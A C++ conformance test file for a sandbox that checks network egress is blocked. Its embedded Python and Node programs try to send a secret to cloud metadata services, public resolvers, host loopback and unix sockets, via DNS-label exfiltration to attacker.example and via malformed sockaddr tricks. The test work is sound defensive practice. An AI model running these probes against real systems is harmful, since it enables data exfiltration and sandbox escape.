// Kind 5 — exfiltration with network off: TCP/UDP to the host's loopback (real canary
// listeners on 127.0.0.1 and ::1 count what arrives), to other addresses and the cloud
// metadata services, over IPv4-mapped IPv6; DNS lookups (no resolver reachable,
// /etc/resolv.conf harmless); the host's abstract and pathname unix sockets (listeners exist
// during the case). Nothing arrives at a host listener, every attempt to leave fails, and
// `egress_attempts` lists what was tried (protocol, address, port) with `network_disabled`.
#include <arpa/inet.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <cstring>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "conformance/suite.hpp"

using conformance::js;
using conformance::py;
using nlohmann::json;
using sandbox::code;

namespace {

/// One host-side canary socket: a listener (stream) or a bound socket (datagram) that counts
/// whatever reaches it. Non-blocking; closed (and unlinked) on destruction.
class canary_socket {
 public:
  canary_socket(int family, int type, const sockaddr* addr, socklen_t len, std::string label)
      : label_(std::move(label)), stream_(type == SOCK_STREAM) {
    fd_ = ::socket(family, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd_ < 0) return;
    int one = 1;
    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (family == AF_INET6) ::setsockopt(fd_, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
    if (::bind(fd_, addr, len) < 0 || (stream_ && ::listen(fd_, 64) < 0)) {
      ::close(fd_);
      fd_ = -1;
      return;
    }
    sockaddr_storage ss{};
    socklen_t sl = sizeof ss;
    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&ss), &sl);
    if (ss.ss_family == AF_INET) port_ = ntohs(reinterpret_cast<sockaddr_in*>(&ss)->sin_port);
    if (ss.ss_family == AF_INET6) port_ = ntohs(reinterpret_cast<sockaddr_in6*>(&ss)->sin6_port);
    if (ss.ss_family == AF_UNIX && addr->sa_data[0] != '\0') {
      path_ = reinterpret_cast<const sockaddr_un*>(addr)->sun_path;
    }
  }
  ~canary_socket() {
    if (fd_ >= 0) ::close(fd_);
    if (!path_.empty()) ::unlink(path_.c_str());
  }
  canary_socket(const canary_socket&) = delete;
  canary_socket& operator=(const canary_socket&) = delete;

  bool ok() const { return fd_ >= 0; }
  std::uint16_t port() const { return port_; }
  const std::string& label() const { return label_; }

  /// Connections accepted or datagrams received since creation.
  int arrivals() {
    if (fd_ < 0) return 0;
    for (;;) {
      char buf[2048];
      int c = stream_ ? ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC)
                      : static_cast<int>(::recv(fd_, buf, sizeof buf, MSG_DONTWAIT));
      if (c < 0) break;
      if (stream_) ::close(c);
      ++count_;
    }
    return count_;
  }

 private:
  std::string label_;
  bool stream_;
  int fd_ = -1;
  std::uint16_t port_ = 0;
  std::string path_;
  int count_ = 0;
};

sockaddr_in inet4(const char* a, std::uint16_t port) {
  sockaddr_in s{};
  s.sin_family = AF_INET;
  s.sin_port = htons(port);
  ::inet_pton(AF_INET, a, &s.sin_addr);
  return s;
}

sockaddr_in6 inet6(const char* a, std::uint16_t port) {
  sockaddr_in6 s{};
  s.sin6_family = AF_INET6;
  s.sin6_port = htons(port);
  ::inet_pton(AF_INET6, a, &s.sin6_addr);
  return s;
}

/// The host's canaries: TCP and UDP on 127.0.0.1, ::1 and every address (0.0.0.0, ::);
/// pathname unix sockets (stream and datagram) in /tmp and under the state directory (whose
/// path a run can learn from its mountinfo); abstract unix sockets (stream and datagram).
struct host_canaries {
  std::vector<std::unique_ptr<canary_socket>> all;
  std::uint16_t tcp4 = 0, tcp6 = 0, udp4 = 0, udp6 = 0, tcp_any = 0, udp_any = 0;
  bool ipv6 = false;
  std::string tmp_stream, tmp_dgram, state_stream, abstract_stream, abstract_dgram;

  host_canaries() {
    const std::string tag = std::to_string(::getpid());
    auto add = [&](int fam, int type, const auto& sa, const std::string& label) {
      auto c = std::make_unique<canary_socket>(fam, type, reinterpret_cast<const sockaddr*>(&sa),
                                               sizeof sa, label);
      canary_socket* p = c.get();
      all.push_back(std::move(c));
      return p;
    };
    auto s4 = inet4("127.0.0.1", 0);
    tcp4 = add(AF_INET, SOCK_STREAM, s4, "tcp 127.0.0.1")->port();
    udp4 = add(AF_INET, SOCK_DGRAM, s4, "udp 127.0.0.1")->port();
    auto any4 = inet4("0.0.0.0", 0);
    tcp_any = add(AF_INET, SOCK_STREAM, any4, "tcp 0.0.0.0")->port();
    udp_any = add(AF_INET, SOCK_DGRAM, any4, "udp 0.0.0.0")->port();
    auto s6 = inet6("::1", 0);
    auto* t6 = add(AF_INET6, SOCK_STREAM, s6, "tcp ::1");
    ipv6 = t6->ok();
    if (ipv6) {
      tcp6 = t6->port();
      udp6 = add(AF_INET6, SOCK_DGRAM, s6, "udp ::1")->port();
      // The same ports on every IPv6 address of the host.
      add(AF_INET6, SOCK_STREAM, inet6("::", tcp_any), "tcp [::]");
      add(AF_INET6, SOCK_DGRAM, inet6("::", udp_any), "udp [::]");
    }
    auto unix_at = [&](int type, const std::string& name, bool abstract, const std::string& label) {
      sockaddr_un u{};
      u.sun_family = AF_UNIX;
      if (abstract) {
        std::memcpy(u.sun_path + 1, name.data(), std::min(name.size(), sizeof u.sun_path - 2));
      } else {
        ::unlink(name.c_str());
        std::strncpy(u.sun_path, name.c_str(), sizeof u.sun_path - 1);
      }
      auto c = std::make_unique<canary_socket>(AF_UNIX, type, reinterpret_cast<sockaddr*>(&u),
                                               sizeof u, label);
      all.push_back(std::move(c));
    };
    tmp_stream = "/tmp/conformance-canary-" + tag + ".sock";
    tmp_dgram = "/tmp/conformance-canary-" + tag + ".dgram";
    state_stream = (conformance::state_root() / "canary.sock").string();
    abstract_stream = "conformance-canary-" + tag;
    abstract_dgram = "conformance-canary-dgram-" + tag;
    unix_at(SOCK_STREAM, tmp_stream, false, "unix " + tmp_stream);
    unix_at(SOCK_DGRAM, tmp_dgram, false, "unix " + tmp_dgram);
    unix_at(SOCK_STREAM, state_stream, false, "unix " + state_stream);
    unix_at(SOCK_STREAM, abstract_stream, true, "abstract @" + abstract_stream);
    unix_at(SOCK_DGRAM, abstract_dgram, true, "abstract @" + abstract_dgram);
  }

  /// Every canary is listening (IPv6 ones only where the host has ::1).
  bool ready() const {
    for (const auto& c : all) {
      if (!c->ok()) return false;
    }
    return true;
  }

  /// "label: n" for every canary that saw anything; empty when nothing arrived.
  std::string arrivals() {
    std::string out;
    for (auto& c : all) {
      if (int n = c->arrivals(); n != 0) out += c->label() + ": " + std::to_string(n) + "\n";
    }
    return out;
  }

  /// Python assignments naming the canaries, prepended to the hostile programs.
  std::string python_prelude() const {
    return "TCP4 = " + std::to_string(tcp4) + "\nUDP4 = " + std::to_string(udp4) +
           "\nTCP6 = " + std::to_string(tcp6) + "\nUDP6 = " + std::to_string(udp6) +
           "\nTCP_ANY = " + std::to_string(tcp_any) + "\nUDP_ANY = " + std::to_string(udp_any) +
           "\nIPV6 = " + (ipv6 ? "True" : "False") + "\nTMP_STREAM = " + json(tmp_stream).dump() +
           "\nTMP_DGRAM = " + json(tmp_dgram).dump() +
           "\nSTATE_STREAM = " + json(state_stream).dump() +
           "\nABSTRACT_STREAM = " + json(abstract_stream).dump() +
           "\nABSTRACT_DGRAM = " + json(abstract_dgram).dump() + "\n";
  }
  std::string node_prelude() const {
    return "const TCP4 = " + std::to_string(tcp4) + ", UDP4 = " + std::to_string(udp4) +
           ", TCP6 = " + std::to_string(tcp6) + ", UDP6 = " + std::to_string(udp6) +
           ", IPV6 = " + (ipv6 ? "true" : "false") + ", TMP_STREAM = " + json(tmp_stream).dump() +
           ", STATE_STREAM = " + json(state_stream).dump() +
           ", ABSTRACT_STREAM = " + json(abstract_stream).dump() + ";\n";
  }
};

/// The host's own non-loopback addresses (what a run would try to reach the host through).
std::vector<std::string> host_addresses() {
  std::vector<std::string> out;
  ifaddrs* ifa = nullptr;
  if (::getifaddrs(&ifa) != 0) return out;
  for (ifaddrs* i = ifa; i != nullptr; i = i->ifa_next) {
    if (i->ifa_addr == nullptr || (i->ifa_flags & IFF_LOOPBACK) != 0) continue;
    char buf[INET6_ADDRSTRLEN] = {};
    if (i->ifa_addr->sa_family == AF_INET) {
      ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf, sizeof buf);
    } else if (i->ifa_addr->sa_family == AF_INET6) {
      const auto* a6 = &reinterpret_cast<sockaddr_in6*>(i->ifa_addr)->sin6_addr;
      if (IN6_IS_ADDR_LINKLOCAL(a6)) continue;  // needs a scope id; not a route anyway
      ::inet_ntop(AF_INET6, a6, buf, sizeof buf);
    } else {
      continue;
    }
    out.emplace_back(buf);
    if (out.size() >= 4) break;  // enough to show the point; keeps the record under its cap
  }
  ::freeifaddrs(ifa);
  return out;
}

/// True when `r` lists a refused attempt of `protocol` to `address` (or its IPv4-mapped IPv6
/// form) and `port`.
bool has_attempt(const sandbox::run_result& r, const std::string& protocol,
                 const std::string& address, std::uint16_t port) {
  for (const auto& a : r.egress_attempts) {
    if (a.protocol == protocol && a.port == port && !a.allowed &&
        (a.address == address || a.address == "::ffff:" + address ||
         "::ffff:" + a.address == address)) {
      return true;
    }
  }
  return false;
}

bool has_dns(const sandbox::run_result& r, const std::string& name) {
  for (const auto& a : r.egress_attempts) {
    if (a.protocol == "dns" && a.host == name && a.port == 53 && !a.allowed) return true;
  }
  return false;
}

/// The code of a run that tried to leave: `network_disabled` where the host records every
/// direct-IP attempt; where it cannot (expectations::egress_recorded), only when something —
/// a DNS query to the run's resolver — was recorded, else `ok`.
code egress_code(const conformance::backend& b, const sandbox::run_result& r) {
  return b.expect().egress_recorded || !r.egress_attempts.empty() ? code::network_disabled
                                                                  : code::ok;
}

/// Whether a direct-IP attempt (proto tcp/udp, address, port) must be in the record.
bool must_record_ip(const conformance::backend& b) { return b.expect().egress_recorded; }

std::string list_attempts(const sandbox::run_result& r) {
  std::string out;
  for (const auto& a : r.egress_attempts) {
    out += a.protocol + " " + (a.host.empty() ? a.address : a.host) + " " + std::to_string(a.port) +
           (a.allowed ? " ALLOWED" : "") + "\n";
  }
  return out;
}

// Shared by the Python programs: attempt(label, fn) records 'OK' or the errno name.
constexpr const char* py_attempt = R"PY(
import socket, errno, json, os
RESULTS = {}
SECRET = b'exfil-' + os.urandom(4).hex().encode()
def attempt(label, fn):
    try:
        r = fn()
        RESULTS[label] = 'OK' if r is None else r
    except OSError as e:
        RESULTS[label] = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
    except Exception as e:
        RESULTS[label] = type(e).__name__
def tcp(fam, addr):
    def f():
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(addr)
            s.sendall(SECRET)
        finally:
            s.close()
    return f
def udp(fam, addr):
    def f():
        s = socket.socket(fam, socket.SOCK_DGRAM)
        try:
            s.sendto(SECRET, addr)
        finally:
            s.close()
    return f
)PY";

}  // namespace

TEST_CASE("exfiltration: the host canaries count what reaches them (control)", "[exfil][core]") {
  // Without this, "nothing arrived" could mean "nothing could have been seen": the host
  // itself reaches every canary once, and each one counts it.
  host_canaries canaries;
  REQUIRE(canaries.ready());
  auto reach = [](int fam, int type, const sockaddr* sa, socklen_t len) {
    int s = ::socket(fam, type | SOCK_CLOEXEC, 0);
    if (s < 0) return false;
    bool ok =
        type == SOCK_STREAM ? ::connect(s, sa, len) == 0 : ::sendto(s, "x", 1, 0, sa, len) == 1;
    ::close(s);
    return ok;
  };
  auto s4 = [](std::uint16_t p) { return inet4("127.0.0.1", p); };
  auto s6 = [](std::uint16_t p) { return inet6("::1", p); };
  std::vector<std::pair<std::string, bool>> tries;
  auto try4 = [&](const char* what, int type, std::uint16_t port) {
    auto a = s4(port);
    tries.emplace_back(what, reach(AF_INET, type, reinterpret_cast<sockaddr*>(&a), sizeof a));
  };
  try4("tcp4", SOCK_STREAM, canaries.tcp4);
  try4("udp4", SOCK_DGRAM, canaries.udp4);
  try4("tcp any", SOCK_STREAM, canaries.tcp_any);
  try4("udp any", SOCK_DGRAM, canaries.udp_any);
  if (canaries.ipv6) {
    auto a = s6(canaries.tcp6);
    tries.emplace_back("tcp6",
                       reach(AF_INET6, SOCK_STREAM, reinterpret_cast<sockaddr*>(&a), sizeof a));
    auto u = s6(canaries.udp6);
    tries.emplace_back("udp6",
                       reach(AF_INET6, SOCK_DGRAM, reinterpret_cast<sockaddr*>(&u), sizeof u));
  }
  auto unix_reach = [&](const std::string& name, bool abstract, int type) {
    sockaddr_un u{};
    u.sun_family = AF_UNIX;
    if (abstract) {
      std::memcpy(u.sun_path + 1, name.data(), std::min(name.size(), sizeof u.sun_path - 2));
    } else {
      std::strncpy(u.sun_path, name.c_str(), sizeof u.sun_path - 1);
    }
    tries.emplace_back(name, reach(AF_UNIX, type, reinterpret_cast<sockaddr*>(&u), sizeof u));
  };
  unix_reach(canaries.tmp_stream, false, SOCK_STREAM);
  unix_reach(canaries.tmp_dgram, false, SOCK_DGRAM);
  unix_reach(canaries.state_stream, false, SOCK_STREAM);
  unix_reach(canaries.abstract_stream, true, SOCK_STREAM);
  unix_reach(canaries.abstract_dgram, true, SOCK_DGRAM);
  for (const auto& [what, ok] : tries) {
    INFO(what);
    CHECK(ok);
  }
  const std::string seen = canaries.arrivals();
  INFO("seen:\n" << seen);
  // Every canary but the IPv6 wildcard pair (not tried here) saw exactly one arrival.
  CHECK(static_cast<std::size_t>(std::count(seen.begin(), seen.end(), '\n')) == tries.size());
  CHECK(seen.find(": 2") == std::string::npos);
}

TEST_CASE("exfiltration: the host's loopback and unix sockets are unreachable (Python)",
          "[exfil][core]") {
  CONFORMANCE_BACKEND(b);
  host_canaries canaries;
  REQUIRE(canaries.ready());
  if (!canaries.ipv6) WARN("host has no ::1: the IPv6 loopback canaries are not tested");
  auto r = b.run(py(canaries.python_prelude() + py_attempt + R"PY(
def unix(kind, addr):
    def f():
        s = socket.socket(socket.AF_UNIX, kind)
        s.settimeout(2)
        try:
            if kind == socket.SOCK_STREAM:
                s.connect(addr); s.sendall(SECRET)
            else:
                s.sendto(SECRET, addr)
        finally:
            s.close()
    return f
attempt('tcp 127.0.0.1', tcp(socket.AF_INET, ('127.0.0.1', TCP4)))
attempt('tcp 127.0.0.1 any', tcp(socket.AF_INET, ('127.0.0.1', TCP_ANY)))
attempt('tcp 127.1.2.3', tcp(socket.AF_INET, ('127.1.2.3', TCP4)))
attempt('tcp 0.0.0.0', tcp(socket.AF_INET, ('0.0.0.0', TCP4)))
attempt('tcp localhost', tcp(socket.AF_INET, ('localhost', TCP4)))
attempt('tcp ::ffff:127.0.0.1', tcp(socket.AF_INET6, ('::ffff:127.0.0.1', TCP4)))
attempt('udp 127.0.0.1', udp(socket.AF_INET, ('127.0.0.1', UDP4)))
attempt('udp 127.0.0.1 any', udp(socket.AF_INET, ('127.0.0.1', UDP_ANY)))
attempt('udp ::ffff:127.0.0.1', udp(socket.AF_INET6, ('::ffff:127.0.0.1', UDP4)))
if IPV6:
    attempt('tcp ::1', tcp(socket.AF_INET6, ('::1', TCP6)))
    attempt('tcp ::1 any', tcp(socket.AF_INET6, ('::1', TCP_ANY)))
    attempt('udp ::1', udp(socket.AF_INET6, ('::1', UDP6)))
for p in (TMP_STREAM, STATE_STREAM, '/proc/1/root' + TMP_STREAM, '/proc/self/root' + STATE_STREAM):
    attempt('unix ' + p, unix(socket.SOCK_STREAM, p))
attempt('unix dgram ' + TMP_DGRAM, unix(socket.SOCK_DGRAM, TMP_DGRAM))
attempt('abstract ' + ABSTRACT_STREAM, unix(socket.SOCK_STREAM, '\0' + ABSTRACT_STREAM))
attempt('abstract dgram ' + ABSTRACT_DGRAM, unix(socket.SOCK_DGRAM, '\0' + ABSTRACT_DGRAM))
print(json.dumps(RESULTS))
)PY"));
  INFO("attempts recorded:\n" << list_attempts(r));
  // Loopback and unix sockets inside are the run's own: not egress, and nothing of the host.
  CHECK(r.code == code::ok);
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO("inside: " << j.dump());
  for (auto& [label, result] : j.items()) {
    INFO(label << " -> " << result);
    // A datagram to the run's own loopback may be "sent" into nothing; a stream never connects.
    if (label.rfind("udp", 0) != 0) CHECK(result != "OK");
  }
  CHECK(j.size() >= 16);
  CHECK(canaries.arrivals() == "");
}

TEST_CASE(
    "exfiltration: other addresses, the host's own and cloud metadata are refused and "
    "recorded (Python)",
    "[exfil][core]") {
  CONFORMANCE_BACKEND(b);
  host_canaries canaries;
  REQUIRE(canaries.ready());
  const auto host_addrs = host_addresses();
  std::string prelude =
      canaries.python_prelude() + "HOST_ADDRS = " + json(host_addrs).dump() + "\n";
  auto r = b.run(py(prelude + py_attempt + R"PY(
A4, A6 = socket.AF_INET, socket.AF_INET6
for a, p in [('1.1.1.1', 80), ('10.0.0.1', 22), ('192.168.1.1', 80), ('169.254.169.254', 80),
             ('100.100.100.200', 80)]:
    attempt(f'tcp {a} {p}', tcp(A4, (a, p)))
for a, p in [('fd00:ec2::254', 80), ('::ffff:1.1.1.1', 443), ('::ffff:169.254.169.254', 80),
             ('2606:4700:4700::1111', 443)]:
    attempt(f'tcp {a} {p}', tcp(A6, (a, p)))
for a, p in [('8.8.8.8', 53), ('169.254.169.254', 80), ('10.0.0.1', 123)]:
    attempt(f'udp {a} {p}', udp(A4, (a, p)))
for a, p in [('2001:4860:4860::8888', 53), ('::ffff:10.0.0.1', 5353), ('ff02::1', 5353)]:
    attempt(f'udp {a} {p}', udp(A6, (a, p)))
for a in HOST_ADDRS:
    fam = A6 if ':' in a else A4
    attempt(f'tcp {a} {TCP_ANY}', tcp(fam, (a, TCP_ANY)))
    attempt(f'udp {a} {UDP_ANY}', udp(fam, (a, UDP_ANY)))
def sendmsg():
    s = socket.socket(A4, socket.SOCK_DGRAM)
    try: s.sendmsg([SECRET], [], 0, ('9.9.9.9', 53))
    finally: s.close()
attempt('udp 9.9.9.9 53', sendmsg)
def fastopen():
    s = socket.socket(A4, socket.SOCK_STREAM)
    try: s.sendto(SECRET, socket.MSG_FASTOPEN, ('8.8.4.4', 443))
    finally: s.close()
attempt('tcp 8.8.4.4 443', fastopen)
def udp_connect():
    s = socket.socket(A4, socket.SOCK_DGRAM)
    try: s.connect(('1.0.0.1', 53)); s.send(SECRET)
    finally: s.close()
attempt('udp 1.0.0.1 53', udp_connect)
def broadcast():
    s = socket.socket(A4, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try: s.sendto(SECRET, ('255.255.255.255', 67))
    finally: s.close()
attempt('udp 255.255.255.255 67', broadcast)
print(json.dumps(RESULTS))
)PY"));
  INFO("attempts recorded:\n" << list_attempts(r));
  CHECK(r.code == egress_code(b, r));
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO("inside: " << j.dump());
  CHECK(j.size() == 19 + 2 * host_addrs.size());
  for (auto& [label, result] : j.items()) {
    INFO(label << " -> " << result);
    CHECK(result != "OK");  // nothing left the run
    // Each attempt is in the record with its protocol, address and port (where the host
    // sees direct-IP attempts at all).
    std::istringstream in(label);
    std::string proto, addr;
    int port = 0;
    in >> proto >> addr >> port;
    if (must_record_ip(b)) CHECK(has_attempt(r, proto, addr, static_cast<std::uint16_t>(port)));
  }
  for (const auto& a : r.egress_attempts) {
    CHECK_FALSE(a.allowed);
    CHECK(a.protocol != "dns");  // numeric addresses need no lookup
  }
  CHECK(canaries.arrivals() == "");
}

TEST_CASE(
    "exfiltration: destinations in the kernel's odd encodings are refused and recorded "
    "too",
    "[exfil][core]") {
  CONFORMANCE_BACKEND(b);
  // Whatever the kernel accepts as a destination must be judged as the kernel reads it: a
  // 24-byte IPv6 sockaddr (RFC 2133, no scope id), AF_UNSPEC on a UDP send (taken as IPv4),
  // an address length with the register's upper half set (the kernel reads an int) and the
  // address at the very end of mapped memory, several destinations in one sendmmsg.
  auto r = b.run(py(R"PY(
import ctypes, socket, struct, errno, json
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
out = {}
def e(rc):
    return 'OK' if rc >= 0 else errno.errorcode.get(ctypes.get_errno(), '?')
def in6(addr, port):
    return struct.pack('<HHI16s', socket.AF_INET6, socket.htons(port), 0, socket.inet_pton(socket.AF_INET6, addr))
def in4(addr, port, family=socket.AF_INET):
    return struct.pack('<HH4s8x', family, socket.htons(port), socket.inet_aton(addr))
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
out['tcp 2606:4700:4700::1111 443'] = e(libc.connect(s.fileno(), in6('2606:4700:4700::1111', 443), 24))
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
out['udp 2001:4860:4860::8844 53'] = e(libc.sendto(u6.fileno(), b'x', 1, 0, in6('2001:4860:4860::8844', 53), 24))
u4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out['udp 8.8.8.8 53'] = e(libc.sendto(u4.fileno(), b'x', 1, 0, in4('8.8.8.8', 53, 0), 16))
# The sockaddr ends exactly where mapped memory ends; the length register says 16 to the
# kernel and 4 GiB + 16 to anyone reading all 64 bits.
page = libc.mmap(None, 8192, 3, 0x22, -1, 0)
libc.munmap(page + 4096, 4096)
ctypes.memmove(page + 4096 - 16, in4('1.0.0.1', 80), 16)
t = socket.socket()
out['tcp 1.0.0.1 80'] = e(libc.syscall(ctypes.c_long(42), ctypes.c_long(t.fileno()),
                                       ctypes.c_void_p(page + 4096 - 16), ctypes.c_long((1 << 32) | 16)))
# sendmmsg: a local destination first, then an outside one.
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(iovec)),
                ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t),
                ('flags', ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint32)]
payload = ctypes.create_string_buffer(b'x')
iov = iovec(ctypes.cast(payload, ctypes.c_void_p), 1)
names = [ctypes.create_string_buffer(in4('127.0.0.1', 9), 16),
         ctypes.create_string_buffer(in4('9.9.9.9', 53), 16)]
msgs = (mmsghdr * 2)()
for i, n in enumerate(names):
    msgs[i].hdr.name = ctypes.cast(n, ctypes.c_void_p)
    msgs[i].hdr.namelen = 16
    msgs[i].hdr.iov = ctypes.pointer(iov)
    msgs[i].hdr.iovlen = 1
um = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
rc = libc.sendmmsg(um.fileno(), msgs, 2, 0)
out['udp 9.9.9.9 53'] = 'OK' if rc == 2 else e(rc) if rc < 0 else 'partial %d' % rc
print(json.dumps(out))
)PY"));
  INFO("attempts recorded:\n" << list_attempts(r));
  CHECK(r.code == egress_code(b, r));
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO("inside: " << j.dump());
  CHECK(j.size() == 5);
  for (auto& [label, result] : j.items()) {
    INFO(label << " -> " << result);
    CHECK(result != "OK");
    std::istringstream in(label);
    std::string proto, addr;
    int port = 0;
    in >> proto >> addr >> port;
    if (must_record_ip(b)) CHECK(has_attempt(r, proto, addr, static_cast<std::uint16_t>(port)));
  }
  for (const auto& a : r.egress_attempts) CHECK_FALSE(a.allowed);
}

TEST_CASE(
    "exfiltration: DNS reaches no resolver; lookups fail and are recorded; resolv.conf "
    "is harmless (Python)",
    "[exfil][dns][core]") {
  CONFORMANCE_BACKEND(b);
  // What the host's own resolver configuration would give away.
  std::vector<std::string> host_resolv;
  {
    std::ifstream in("/etc/resolv.conf");
    std::string line;
    while (std::getline(in, line)) {
      std::istringstream f(line);
      std::string key, value;
      f >> key;
      while (f >> value) {
        if ((key == "nameserver" || key == "search" || key == "domain") &&
            value.rfind("127.", 0) != 0 && value != "::1") {
          host_resolv.push_back(value);
        }
      }
    }
  }
  char host_name[256] = {};
  ::gethostname(host_name, sizeof host_name - 1);
  auto r = b.run(py(std::string(py_attempt) + R"PY(
import struct
def lookup(name):
    def f():
        return 'RESOLVED ' + str(socket.getaddrinfo(name, 80)[0][4])
    return f
attempt('dns exfil-' + SECRET.decode() + '.attacker.example', lookup('exfil-' + SECRET.decode() + '.attacker.example'))
attempt('dns metadata.google.internal', lookup('metadata.google.internal'))
attempt('dns instance-data.ec2.internal', lookup('instance-data.ec2.internal'))
attempt('gethostbyname', lambda: 'RESOLVED ' + socket.gethostbyname('exfil-by-name.attacker.example'))
def query(name):
    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
    for part in name.split('.'):
        q += bytes([len(part)]) + part.encode()
    return q + b'\0' + struct.pack('>HH', 1, 1)
# A hand-made query to the configured resolver: it must never answer with a record.
def raw(server):
    def f():
        fam = socket.AF_INET6 if ':' in server else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.settimeout(2)
        try:
            s.sendto(query('raw-query.attacker.example'), (server, 53))
            data = s.recv(512)
            ancount = struct.unpack('>H', data[6:8])[0]
            return 'ANSWERED' if ancount else 'rcode %d' % (data[3] & 15)
        finally:
            s.close()
    return f
resolv = open('/etc/resolv.conf').read()
servers = [l.split()[1] for l in resolv.splitlines() if l.startswith('nameserver')]
for srv in servers:
    attempt('raw ' + srv, raw(srv))
    attempt('tcp53 ' + srv, tcp(socket.AF_INET6 if ':' in srv else socket.AF_INET, (srv, 53)))
attempt('udp 8.8.8.8 53', raw('8.8.8.8'))
try:
    hosts = open('/etc/hosts').read()
except OSError:
    hosts = ''   # an image without /etc/hosts: localhost must still resolve, locally
print(json.dumps({'results': RESULTS, 'resolv': resolv, 'servers': servers, 'hosts': hosts,
                  'localhost': socket.gethostbyname('localhost'),
                  'localhost6': socket.getaddrinfo('localhost', 80, socket.AF_INET6)[0][4][0]}))
)PY"));
  INFO("attempts recorded:\n" << list_attempts(r));
  CHECK(r.code == code::network_disabled);
  REQUIRE(r.exit_code == 0);
  auto j = json::parse(b.blob(r.std_out.blob));
  INFO("inside: " << j.dump());
  // No lookup resolved and no resolver answered with a record.
  for (auto& [label, result] : j["results"].items()) {
    INFO(label << " -> " << result);
    CHECK(result.get<std::string>().rfind("RESOLVED", 0) != 0);
    CHECK(result != "ANSWERED");
    CHECK(result != "OK");
  }
  // Each name asked for is in the record, including one carrying data out in its labels.
  for (auto& [label, result] : j["results"].items()) {
    if (label.rfind("dns ", 0) == 0) CHECK(has_dns(r, label.substr(4)));
  }
  CHECK(has_dns(r, "exfil-by-name.attacker.example"));
  if (must_record_ip(b)) CHECK(has_attempt(r, "udp", "8.8.8.8", 53));
  // resolv.conf: only resolvers on the run's own loopback; nothing of the host's.
  REQUIRE(!j["servers"].empty());
  for (const auto& s : j["servers"]) {
    const auto v = s.get<std::string>();
    CHECK((v.rfind("127.", 0) == 0 || v == "::1"));
  }
  const std::string resolv = j["resolv"], hosts = j["hosts"];
  for (const auto& v : host_resolv) {
    INFO("host resolver setting " << v);
    CHECK(resolv.find(v) == std::string::npos);
  }
  if (std::string(host_name) != "localhost" && host_name[0] != '\0') {
    CHECK(resolv.find(host_name) == std::string::npos);
    CHECK(hosts.find(host_name) == std::string::npos);
  }
  // The run's own names still resolve, to its own loopback, and are not egress.
  CHECK(j["localhost"] == "127.0.0.1");
  CHECK(j["localhost6"] == "::1");
  CHECK_FALSE(has_dns(r, "localhost"));
}

TEST_CASE(
    "exfiltration: Node net, dgram, http and dns are refused and recorded; host "
    "sockets are unreachable",
    "[exfil][node][core]") {
  CONFORMANCE_BACKEND(b);
  host_canaries canaries;
  REQUIRE(canaries.ready());
  auto r = b.run(js(canaries.node_prelude() + R"JS(
const net = require('net'), dgram = require('dgram'), dns = require('dns'), http = require('http');
const out = {};
const SECRET = 'exfil-node';
function tcp(label, opts) {
  return new Promise((res) => {
    const s = net.connect(opts);
    s.setTimeout(2000);
    s.on('connect', () => { out[label] = 'OK'; s.end(SECRET); res(); });
    s.on('error', (e) => { out[label] = e.code || e.message; res(); });
    s.on('timeout', () => { out[label] = 'TIMEOUT'; s.destroy(); res(); });
  });
}
function udp(label, type, port, addr) {
  return new Promise((res) => {
    const s = dgram.createSocket(type);
    s.on('error', (e) => { out[label] = e.code; s.close(); res(); });
    s.send(SECRET, port, addr, (e) => { out[label] = e ? e.code : 'OK'; s.close(); res(); });
  });
}
function get(label, url) {
  return new Promise((res) => {
    const req = http.get(url, { timeout: 2000 }, (resp) => { out[label] = 'OK ' + resp.statusCode; resp.resume(); res(); });
    req.on('error', (e) => { out[label] = e.code || e.message; res(); });
    req.on('timeout', () => { out[label] = 'TIMEOUT'; req.destroy(); });
  });
}
function lookup(label, fn) {
  return new Promise((res) => {
    try {
      fn().then((a) => { out[label] = 'RESOLVED ' + JSON.stringify(a); res(); },
                (e) => { out[label] = e.code || e.message; res(); });
    } catch (e) { out[label] = e.code || e.message; res(); }
  });
}
(async () => {
  await tcp('tcp 1.1.1.1 80', { host: '1.1.1.1', port: 80 });
  await tcp('tcp 169.254.169.254 80', { host: '169.254.169.254', port: 80 });
  await tcp('tcp fd00:ec2::254 80', { host: 'fd00:ec2::254', port: 80 });
